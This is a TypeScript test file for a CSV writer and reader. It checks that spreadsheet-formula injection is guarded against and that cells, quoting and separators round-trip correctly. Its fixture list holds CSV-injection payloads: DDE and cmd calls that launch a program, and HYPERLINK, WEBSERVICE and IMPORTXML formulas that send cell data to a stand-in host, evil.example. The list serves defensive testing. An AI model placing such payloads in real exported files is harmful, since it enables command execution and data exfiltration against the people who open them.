import fc from "fast-check";
import Papa from "papaparse";
import { expect, test } from "vitest";
import { randomText } from "#lib/checks/random-texts.fixture.ts";
import { guarded, readCsv, unguarded, writeCsv } from "./csv.ts";

/** What spreadsheets have taken for a formula, a command or a request. */
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\u0000=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1+1)",
  '=DDE("cmd";"/C calc";"A0")',
  "'=1+1",
];
const cell = fc.oneof(
  randomText,
  fc.constantFrom(...FORMULAS, "", "'", "''", '"', '""', ",", "a,b", "\r\n", ";"),
);

test("[R20] 10,000 random cells come back the same from an independent reader once the guard is off", () => {
  let cells = 0;
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 4, maxLength: 4 }), { minLength: 5, maxLength: 5 }),
      (rows) => {
        const text = writeCsv(rows);
        const { data, errors } = Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n" });
        expect(errors).toEqual([]);
        expect(data.slice(0, -1).map((row) => row.map(unguarded))).toEqual(rows);
        for (const row of data) for (const read of row) expect(read).not.toMatch(/^[=+\-@\t\r\n\0]/);
        cells += 20;
      },
    ),
    { numRuns: 500 },
  );
  expect(cells).toBe(10_000);
});

test.each(FORMULAS)("[R20] %j is guarded, once, and back", (formula) => {
  expect(guarded(formula)).toBe(`'${formula}`);
  expect(unguarded(guarded(formula))).toBe(formula);
});

test("[R20] a harmless text is not touched; an apostrophe of its own stays", () => {
  for (const text of ["hello", "a=b", "", "3", "it's"]) expect(guarded(text)).toBe(text);
  expect(unguarded("'tis")).toBe("'tis");
  expect(unguarded(guarded("'tis"))).toBe("'tis");
});

test("every row ends with CR LF, and quotation marks are doubled", () => {
  expect(
    writeCsv([
      ["a", 'say "hi"'],
      [1, "x\ny"],
    ]),
  ).toBe('"a","say ""hi"""\r\n1,"x\ny"\r\n');
});

test("a table is read with any of the usual separators, without empty lines", () => {
  for (const separator of [",", ";", "\t"]) {
    const text = [
      ["before", "after"],
      ["one", "two"],
      ["three", "four"],
    ]
      .map((row) => row.join(separator))
      .join("\r\n");
    expect(readCsv(`${text}\r\n\r\n`, 10)).toEqual({
      rows: [
        ["before", "after"],
        ["one", "two"],
        ["three", "four"],
      ],
    });
  }
  expect(readCsv('before,after\n"one,two\n', 10)).toEqual({
    problem: "a quotation mark in row 2 is not closed",
  });
});
